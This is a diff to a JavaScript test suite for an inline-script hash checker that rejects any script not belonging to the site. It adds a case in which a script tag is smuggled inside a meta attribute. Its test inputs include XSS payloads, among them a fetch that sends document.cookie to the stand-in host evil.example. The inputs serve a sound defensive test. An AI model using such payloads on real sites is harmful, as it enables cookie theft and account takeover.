@@ -23,6 +23,14 @@ describe('inlineScriptHashes', () => {
     expect(inlineScriptHashes(html)).toHaveLength(1);
   });
 
+  it('a known script written inside an attribute lets no foreign script after it through', () => {
+    const html = page(`<meta name="description" content="<script>${JS_CLASS_SCRIPT}</script>"><script>alert(1)</script>`);
+    expect(() => inlineScriptHashes(html)).toThrow(/not one of the site's own.*alert\(1\)/s);
+    // Nor does a data block hide one: it is read by the parser, which leaves the data out and finds the script.
+    const data = page(`<script type=application/json>{"a":1}</script><script>${prePaintScript()}</script>`);
+    expect(inlineScriptHashes(data)).toHaveLength(2);
+  });
+
   it('fails on any other inline script, saying what it is and where to look', () => {
     for (const foreign of ['<script>alert(document.cookie)</script>', '<SCRIPT type="text/javascript">fetch("//evil.example/"+document.cookie)</SCRIPT>', `<script>${JS_CLASS_SCRIPT};alert(1)</script>`]) {
       expect(() => inlineScriptHashes(page(`<article><p>Yangilik</p>${foreign}</article>`)), foreign).toThrow(/not one of the site's own.*sanitiser/s);
